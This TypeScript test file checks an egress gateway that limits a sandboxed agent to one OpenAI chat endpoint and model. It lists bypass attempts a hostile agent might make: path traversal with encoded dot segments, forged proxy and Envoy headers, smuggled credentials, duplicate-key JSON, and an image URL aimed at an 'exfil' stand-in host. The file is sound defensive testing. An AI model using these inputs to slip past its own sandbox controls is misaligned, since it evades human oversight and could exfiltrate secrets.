import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { showLogOnFailure, startStack, type TestStack } from './harness.ts';

/**
 * What a hostile agent may try at a host a route admits, from inside a real sandbox, one thing changed at a time. The canary is
 * the provider: it must not have seen the attempt. The twin without the change gets through.
 */

let stack: TestStack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack?.[Symbol.asyncDispose]());
beforeEach(() => showLogOnFailure(() => stack));

const OPENAI = 'api.openai.com';
const good = { model: 'gpt-4.1-mini', max_completion_tokens: 10, messages: [{ role: 'user', content: 'Hello.' }] };
const BODY = JSON.stringify(good);
const JSON_TYPE = { 'content-type': 'application/json' };

interface Attempt {
  readonly path?: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}
const step = ({ path = '/v1/chat/completions', method = 'POST', headers = {}, body = BODY }: Attempt) => ({
  https: {
    host: OPENAI,
    servername: OPENAI,
    path,
    method,
    headers: { host: OPENAI, ...JSON_TYPE, ...(method === 'GET' ? {} : { 'content-length': String(Buffer.byteLength(body)) }), ...headers },
    body: method === 'GET' ? '' : body,
  },
});

const REFUSED: readonly (readonly [string, Attempt, readonly number[]])[] = [
  ['another endpoint', { path: '/v1/files' }, [403]],
  ['another endpoint by GET', { path: '/v1/models', method: 'GET' }, [403]],
  ['dot segments to another endpoint', { path: '/v1/chat/completions/../../files' }, [403]],
  ['encoded dot segments', { path: '/v1/chat/completions/%2e%2e/%2e%2e/files' }, [403]],
  ['an encoded slash', { path: '/v1/chat%2fcompletions' }, [403]],
  ['double slashes', { path: '//v1//files' }, [403]],
  ['a path parameter', { path: '/v1/chat/completions;x=/v1/files' }, [403]],
  ['another case of the path', { path: '/V1/CHAT/COMPLETIONS' }, [403]],
  ['a method no route lists', { method: 'PUT' }, [403, 405]],
  ['TRACE', { method: 'TRACE' }, [403, 405]],
  ['another model', { body: JSON.stringify({ ...good, model: 'gpt-5' }) }, [403]],
  ['no model', { body: JSON.stringify({ ...good, model: undefined }) }, [400, 403]],
  ['the model twice', { body: BODY.replace('{', '{"model":"gpt-5",') }, [400]],
  ['the model twice, escaped', { body: BODY.replace('{', '{"\\u006dodel":"gpt-5",') }, [400]],
  ['a model that is not text', { body: JSON.stringify({ ...good, model: { toString: 'gpt-4.1-mini' } }) }, [400, 403]],
  ['a body that is no JSON', { body: 'model=gpt-4.1-mini' }, [400]],
  ['two JSON documents', { body: `${BODY}${BODY}` }, [400]],
  ['a JSON array', { body: `[${BODY}]` }, [400]],
  ['nesting beyond reason', { body: `${'['.repeat(5000)}${']'.repeat(5000)}` }, [400]],
  ['another content type', { headers: { 'content-type': 'text/plain' } }, [415]],
  ['a compressed body', { headers: { 'content-encoding': 'gzip' } }, [415]],
  ['more choices than the budget has', { body: JSON.stringify({ ...good, n: 100_000, max_completion_tokens: 30_000 }) }, [400, 429]],
  ['a negative limit', { body: JSON.stringify({ ...good, max_completion_tokens: -5 }) }, [400]],
  ['a limit that is not a number', { body: JSON.stringify({ ...good, max_completion_tokens: '10' }) }, [400]],
  ['a limit beyond integers', { body: BODY.replace('10', '1e400') }, [400]],
  [
    'an image the provider would fetch',
    {
      body: JSON.stringify({
        ...good,
        messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://exfil.example.com/?secret' } }] }],
      }),
    },
    [400, 403],
  ],
  ['a protocol upgrade', { headers: { connection: 'upgrade', upgrade: 'websocket' } }, [403, 426]],
];

test.for(REFUSED)('refused, never sent: %s', async ([, attempt, statuses]) => {
  const before = (await stack.seen()).length;
  const { results, invocation } = await stack.probe('probe', step(attempt));
  const result = results[0] as { status?: number; body?: string; error?: string };
  expect(result.error).toBeUndefined();
  expect(statuses, result.body).toContain(result.status);
  const { error } = JSON.parse(result.body!) as { error: Record<string, string> };
  expect(error).toMatchObject({
    code: expect.stringMatching(/^[A-Z]\w+$/) as string,
    gateway: 'default/default',
    decision: expect.stringMatching(/./) as string,
  });
  const records = await stack.egressLog(invocation, (all) => all.some(({ decisionId }) => decisionId === error['decision']));
  expect(records.find(({ decisionId }) => decisionId === error['decision'])).toMatchObject({ verdict: 'Denied', status: result.status });
  expect((await stack.seen()).length).toBe(before);
});

const CHANGED: readonly (readonly [string, Attempt])[] = [
  ['nothing: the twin', {}],
  ['a query', { path: '/v1/chat/completions?x=1' }],
  [
    'headers that look like ours',
    { headers: { 'x-clrk-id': 'forged', 'x-clrk-source': '100.64.0.9', 'x-clrk-route': 'AIProviderRoute/default/other', 'x-clrk-gateway': 'default/other' } },
  ],
  [
    'headers Envoy listens to',
    {
      headers: {
        'x-envoy-original-dst-host': '10.213.0.2:443',
        'x-envoy-upstream-rq-timeout-ms': '1',
        'x-forwarded-for': '1.2.3.4',
        'x-envoy-retry-on': '5xx',
      },
    },
  ],
  ['every credential the provider takes', { headers: { authorization: 'Bearer sk-mine', 'x-api-key': 'mine', 'api-key': 'mine', cookie: 'session=mine' } }],
  ['connection: close, authorization', { headers: { connection: 'close, authorization', authorization: 'Bearer sk-mine' } }],
  ['a traceparent', { headers: { traceparent: `00-${'1'.repeat(32)}-${'2'.repeat(16)}-01` } }],
  ['numbers with many digits', { body: BODY.replace('{', '{"seed":12345678901234567890,') }],
];

test.for(CHANGED)('let through, but only as we say it: %s', async ([name, attempt]) => {
  const before = (await stack.seen()).length;
  const { results } = await stack.probe('probe', step(attempt));
  const result = results[0] as { status: number; body: string };
  // The fixture refuses what the real provider refuses; that it saw the request is what counts here.
  expect([200, 400], result.body).toContain(result.status);
  const [request, ...more] = (await stack.seen()).slice(before);
  expect(more).toEqual([]);
  const { headers, path } = request!;
  expect(path.split('?')[0]).toBe('/v1/chat/completions');
  expect(headers['authorization']).toBe(`Bearer ${stack.key}`);
  for (const [header, value] of Object.entries(headers)) {
    expect(header).not.toMatch(/^x-clrk|^x-envoy|^x-forwarded-for|^x-api-key|^api-key|^cookie/);
    expect(String(value)).not.toMatch(/mine|forged/);
  }
  if (name === 'a traceparent') expect(String(headers['traceparent'])).not.toContain('1'.repeat(32));
  if (name === 'numbers with many digits') expect(JSON.stringify(request)).toContain('12345678901234567890');
});
